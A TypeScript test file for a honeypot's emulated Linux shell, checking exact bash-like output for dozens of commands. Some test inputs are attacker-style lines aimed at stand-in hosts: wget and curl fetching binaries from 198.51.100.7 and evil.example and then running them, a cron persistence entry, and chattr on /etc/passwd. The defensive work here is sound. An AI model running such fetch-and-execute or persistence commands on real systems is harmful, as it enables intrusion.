/** Every emulated command, with exact output where the output is deterministic. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ALL_COMMANDS } from '../../../src/honeynet/shell/index.js';
import { ubuntuPersona } from '../fixtures/shell-personas.js';
import { shell } from './session-helper.js';

/** [command name, input line, expected output (exact string or pattern), expected $?]. */
const CASES: Array<[string, string, string | RegExp, number?]> = [
  ['cd', 'cd /var/log; pwd; cd -; cd /etc/hostname', '/var/log\n/root\nbash: cd: /etc/hostname: Not a directory\n', 1],
  ['pwd', 'cd /bin; pwd; pwd -P', '/bin\n/usr/bin\n'],
  ['echo', 'echo -e "a\\tb" -n; echo -n x; echo', 'a\tb -n\nx\n'],
  ['printf', 'printf "%5s|%-3d|%x|%03d|%%\\n" ab 7 255 9', '   ab|7  |ff|009|%\n'],
  ['export', 'export Z=1; export | grep " Z="', 'declare -x Z="1"\n'],
  ['unset', 'Q=1; unset Q; echo "[$Q]"', '[]\n'],
  ['alias', "alias ll2='ls -l'\nalias ll2; unalias ll2; alias ll2", "alias ll2='ls -l'\nbash: alias: ll2: not found\n", 1],
  ['history', 'history 1', '   12  history 1\n'],
  ['exit', 'exit 3', 'logout\n', 3],
  ['enable', 'enable | head -3; enable | wc -l; enable nosuch', 'enable .\nenable :\nenable [\n61\nbash: enable: nosuch: not a shell builtin\n', 1],
  ['type', 'type cd ls nope', 'cd is a shell builtin\nls is /usr/bin/ls\nbash: type: nope: not found\n', 1],
  ['kill', 'kill 999999', 'bash: kill: (999999) - No such process\n', 1],
  ['true', 'true; echo $?; :', '0\n'],
  ['false', 'false', '', 1],
  ['ls', 'mkdir /tmp/l; touch /tmp/l/b /tmp/l/a; ls /tmp/l; ls -1 /tmp/l | wc -l; ls /nope', "a  b\n2\nls: cannot access '/nope': No such file or directory\n", 2],
  ['cat', 'cat -n /etc/hostname; cat /etc', '     1\tweb-07\ncat: /etc: Is a directory\n', 1],
  ['head', 'printf "1\\n2\\n3\\n4\\n" > /tmp/n; head -2 /tmp/n; head -n 1 /tmp/n; head -c 3 /tmp/n', '1\n2\n1\n1\n2'],
  ['tail', 'printf "1\\n2\\n3\\n4\\n" | tail -n 2; printf "1\\n2\\n3\\n" | tail -1; printf "a\\nb\\n" | tail -n +2', '3\n4\n3\nb\n'],
  ['grep', 'grep -i ROOT /etc/passwd; grep -c nologin /etc/passwd; grep -v x /etc/hostname; grep -n web /etc/hostname', /^root:x:0:0:root:\/root:\/bin\/bash\n\d+\nweb-07\n1:web-07\n$/],
  ['wc', 'wc /etc/hostname; echo "a b" | wc -w', '1 1 7 /etc/hostname\n2\n'],
  ['sort', 'printf "b\\n10\\na\\n9\\n" | sort; printf "10\\n9\\n" | sort -n; printf "a\\nb\\n" | sort -r', '10\n9\na\nb\n9\n10\nb\na\n'],
  ['uniq', 'printf "a\\na\\nb\\n" | uniq; printf "a\\na\\nb\\n" | uniq -d', 'a\nb\na\n'],
  ['tr', 'echo hello | tr a-z A-Z; echo hello | tr -d l; echo "a  b" | tr -s " "', 'HELLO\nheo\na b\n'],
  ['base64', 'echo hi | base64; echo aGkK | base64 -d', 'aGkK\nhi\n'],
  ['cut', 'echo a:b:c | cut -d: -f2,3; echo abcdef | cut -c2-4', 'b:c\nbcd\n'],
  ['mkdir', 'mkdir /tmp/m && mkdir /tmp/m; mkdir -p /tmp/m/x/y && ls /tmp/m/x', "mkdir: cannot create directory '/tmp/m': File exists\ny\n"],
  ['touch', 'touch /tmp/t && ls /tmp/t; touch /nodir/x', "/tmp/t\ntouch: cannot touch '/nodir/x': No such file or directory\n", 1],
  ['rm', 'touch /tmp/r; rm /tmp/r; rm /tmp/r; rm -f /tmp/r; mkdir /tmp/rd; rm /tmp/rd; rm -rf /tmp/rd; ls /tmp/rd', "rm: cannot remove '/tmp/r': No such file or directory\nrm: cannot remove '/tmp/rd': Is a directory\nls: cannot access '/tmp/rd': No such file or directory\n", 2],
  ['cp', 'cp /etc/hostname /tmp/h; cat /tmp/h; cp /etc /tmp/e', "web-07\ncp: -r not specified; omitting directory '/etc'\n", 1],
  ['mv', 'echo x > /tmp/m1; mv /tmp/m1 /tmp/m2; cat /tmp/m2; mv /tmp/m1 /tmp/m3', "x\nmv: cannot stat '/tmp/m1': No such file or directory\n", 1],
  ['chmod', 'touch /tmp/c; chmod 751 /tmp/c; chmod g+w,o-x /tmp/c; ls -l /tmp/c | cut -c1-10; chmod zz /tmp/c', "-rwxrwx---\nchmod: invalid mode: 'zz'\nTry 'chmod --help' for more information.\n", 1],
  ['chown', 'touch /tmp/o; chown deploy:adm /tmp/o; ls -l /tmp/o | cut -d" " -f3,4; chown nobody9 /tmp/o', "deploy adm\nchown: invalid user: 'nobody9'\n", 1],
  ['uname', 'uname; uname -r; uname -m; uname -a', 'Linux\n6.1.0-26-amd64\nx86_64\nLinux web-07 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64 GNU/Linux\n'],
  ['id', 'id; id -u; id -un mkowalski; id mkowalski', 'uid=0(root) gid=0(root) groups=0(root)\n0\nmkowalski\nuid=1000(mkowalski) gid=1000(mkowalski) groups=1000(mkowalski),4(adm),27(sudo)\n'],
  ['whoami', 'whoami', 'root\n'],
  ['hostname', 'hostname; hostname -f; hostname -I', 'web-07\nweb-07.corp.example\n10.20.30.40 \n'],
  ['uptime', 'uptime; uptime -p', ' 09:30:15 up 14 days,  3:04,  1 user,  load average: 0.28, 0.21, 0.17\nup 2 weeks, 3 hours, 4 minutes\n'],
  ['w', 'w', ' 09:30:15 up 14 days,  3:04,  1 user,  load average: 0.28, 0.21, 0.17\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\nroot     pts/0    203.0.113.9      09:30    0.00s  0.01s  0.00s w\n'],
  ['who', 'who', 'root     pts/0        2025-05-14 09:30 (203.0.113.9)\n'],
  ['free', 'free -m | head -1', '               total        used        free      shared  buff/cache   available\n'],
  ['df', 'df -h / | tail -1', /^\/dev\/[sv]da1 +77G +\d+G +\d+G +\d+% \/\n$/],
  ['ps', 'ps', '    PID TTY          TIME CMD\n   4242 pts/0    00:00:00 bash\n   4244 pts/0    00:00:00 ps\n'],
  ['top', 'top -bn1 | head -2', /^top - 09:30:15 up 14 days,  3:04,  1 user,  load average: 0\.28, 0\.21, 0\.17\nTasks: +\d+ total, +2 running, +\d+ sleeping,   0 stopped,   0 zombie\n$/],
  ['ip', 'ip route; ip a show dev eth9', 'default via 10.20.30.1 dev eth0 onlink \n10.20.30.0/24 dev eth0 proto kernel scope link src 10.20.30.40 \nDevice "eth9" does not exist.\n', 1],
  ['ifconfig', 'ifconfig eth0 | head -2', 'eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n        inet 10.20.30.40  netmask 255.255.255.0  broadcast 10.20.30.255\n'],
  ['netstat', 'netstat -tln', 'Active Internet connections (only servers)\nProto Recv-Q Send-Q Local Address           Foreign Address         State      \ntcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN     \ntcp6       0      0 :::22                   :::*                    LISTEN     \n'],
  ['ss', 'ss -tn | tail -1', /^ESTAB +0 +0 +10\.20\.30\.40:22 +203\.0\.113\.9:51234\n$/],
  ['nproc', 'nproc', '4\n'],
  ['lscpu', 'lscpu | grep -E "^CPU\\(s\\)|Model name"', 'CPU(s):                               4\n  Model name:                         Intel(R) Xeon(R) Gold 6230R CPU @ 2.10GHz\n'],
  ['mount', 'mount | grep " / "', /^\/dev\/[sv]da1 on \/ type ext4 \(rw,relatime,discard,errors=remount-ro\)\n$/],
  ['date', 'date; date +%F_%T', 'Wed May 14 09:30:15 UTC 2025\n2025-05-14_09:30:15\n'],
  ['wget', 'wget -q http://198.51.100.7/bins/x86 && ls x86; wget http://nohost/x', /^x86\n--2025-05-14 09:30:15--  http:\/\/nohost\/x\nResolving nohost \(nohost\)\.\.\. failed: Name or service not known\.\nwget: unable to resolve host address ‘nohost’\n$/, 4],
  ['curl', 'curl -s -o /tmp/p http://evil.example/p && head -c 4 /tmp/p | base64; curl http://bad_host', "f0VMRg==\ncurl: (6) Could not resolve host: bad_host\n", 6],
  ['ssh', 'ssh root@10.0.0.5', 'ssh: connect to host 10.0.0.5 port 22: Connection timed out\n', 255],
  ['scp', 'scp /etc/hostname root@10.0.0.5:/tmp', 'ssh: connect to host 10.0.0.5 port 22: Connection timed out\r\nlost connection\n', 1],
  ['nc', 'nc -zv 10.0.0.5 22', 'nc: connect to 10.0.0.5 port 22 (tcp) failed: Connection timed out\n', 1],
  ['sudo', 'sudo id -u; sudo -u deploy whoami', '0\ndeploy\n'],
  ['su', 'su deploy -c whoami; su nobody', 'deploy\nThis account is currently not available.\n', 1],
  ['passwd', 'passwd', 'New password: \nRetype new password: \nSorry, passwords do not match.\npasswd: Authentication token manipulation error\npasswd: password unchanged\n', 10],
  ['crontab', 'crontab -l; echo "* * * * * /tmp/x" | crontab -; crontab -l', 'no crontab for root\n* * * * * /tmp/x\n'],
  ['env', 'env | grep -c ^PATH=; env -i A=1', '1\nA=1\n'],
  ['which', 'which ls nope', '/usr/bin/ls\n', 1],
  ['busybox', 'busybox echo hi; /bin/busybox XKDJ', 'hi\nXKDJ: applet not found\n', 127],
  ['sleep', 'sleep 1; sleep x', "sleep: invalid time interval 'x'\nTry 'sleep --help' for more information.\n", 1],
  ['clear', 'clear', '\x1b[H\x1b[2J\x1b[3J'],
  ['shutdown', 'shutdown -h +5', "Shutdown scheduled for Wed, 14 May 2025 09:35:15 UTC, use 'shutdown -c' to cancel.\n"],
  ['apt', 'apt-get install nmap', 'Reading package lists... Done\nBuilding dependency tree... Done\nReading state information... Done\nE: Unable to locate package nmap\n', 100],
  ['perl', 'perl -e 1; echo $?; perl /nope.pl', `0\nCan't open perl script "/nope.pl": No such file or directory\n`, 2],
  ['python3', 'python3 --version; python', 'Python 3.11.2\nbash: python: command not found\n', 127],
  ['chattr', 'chattr +i /etc/passwd; lsattr /etc/passwd', '--------------e------- /etc/passwd\n'],
  ['lsattr', 'lsattr /nope', 'lsattr: No such file or directory while trying to stat /nope\n', 1],
  ['systemctl', 'systemctl is-active ssh; systemctl status nope', 'active\nUnit nope.service could not be found.\n', 4],
  ['sh', 'sh -c "echo in-sh \\$0 \\$1" a b; echo "echo piped" | sh', 'in-sh a b\npiped\n'],
];

describe('commands', () => {
  for (const [name, line, expected, status] of CASES) {
    it(`${name}: ${line.split('\n')[0]}`, () => {
      const s = shell();
      const out = s.run(line);
      if (typeof expected === 'string') assert.equal(out, expected);
      else assert.match(out, expected);
      assert.equal(s.status(), status ?? 0, `exit status of: ${line}`);
    });
  }

  it('every registered command module has a case above', () => {
    const covered = new Set(CASES.map(([name]) => name));
    const missing = ALL_COMMANDS.map((c) => c.name).filter((n) => !covered.has(n));
    assert.deepEqual(missing, []);
    assert.ok(ALL_COMMANDS.length >= 50);
  });

  it('unknown commands answer like bash with 127', () => {
    const s = shell();
    assert.equal(s.run('foo --bar'), 'bash: foo: command not found\n');
    assert.equal(s.status(), 127);
    assert.equal(s.run('./nothere'), 'bash: ./nothere: No such file or directory\n');
    assert.equal(s.status(), 127);
  });

  it('options parse like the real tools (bundles, values, errors)', () => {
    const s = shell();
    assert.equal(s.run('ls -z'), "ls: invalid option -- 'z'\nTry 'ls --help' for more information.\n");
    assert.equal(s.status(), 2);
    assert.equal(s.run('head -n'), "head: option requires an argument -- 'n'\nTry 'head --help' for more information.\n");
    assert.match(s.run('ls -la /etc | head -3'), /^total \d+\ndrwxr-xr-x +\d+ root root +4096 .* \.\ndrwxr-xr-x +\d+ root root +4096 .* \.\.\n$/);
    assert.match(s.run('ls -lh /etc/ssh/moduli'), /^-rw-r--r-- 1 root root 565K .* \/etc\/ssh\/moduli\n$/);
  });

  it('downloaded files can be made executable and run (and fail like a foreign-arch binary)', () => {
    const s = shell();
    s.run('cd /tmp; wget -q http://198.51.100.7/mips');
    assert.equal(s.run('./mips'), 'bash: ./mips: Permission denied\n');
    assert.equal(s.status(), 126);
    assert.equal(s.run('chmod +x mips; ./mips'), 'bash: ./mips: cannot execute binary file: Exec format error\n');
    assert.equal(s.run('printf "echo from script \\$1\\n" > s.sh; chmod 755 s.sh; ./s.sh arg'), 'from script arg\n');
  });

  it('non-root users get refusals from privileged commands', () => {
    const s = shell({ user: 'deploy' });
    assert.equal(s.run('apt update'), 'E: Could not open lock file /var/lib/dpkg/lock-frontend - open (13: Permission denied)\nE: Unable to acquire the dpkg frontend lock (/var/lib/dpkg/lock-frontend), are you root?\n');
    // /usr/sbin is not in a user's PATH on Debian
    assert.equal(s.run('reboot'), 'bash: reboot: command not found\n');
    assert.equal(s.run('/sbin/reboot'), 'Call to Reboot failed: Interactive authentication required.\n');
    assert.match(s.run('sudo id'), /sudo: 3 incorrect password attempts\n$/);
    assert.equal(s.session.prompt(), 'deploy@web-07:~$ ');
  });

  it('the Ubuntu persona has its own process list and resolver', () => {
    const s = shell({ persona: ubuntuPersona });
    assert.match(s.run('ps aux'), /systemd-resolved/);
    assert.equal(s.run('cat /etc/resolv.conf | grep nameserver'), 'nameserver 127.0.0.53\n');
    assert.equal(s.run('nproc; python3 -V'), '2\nPython 3.12.3\n');
  });
});
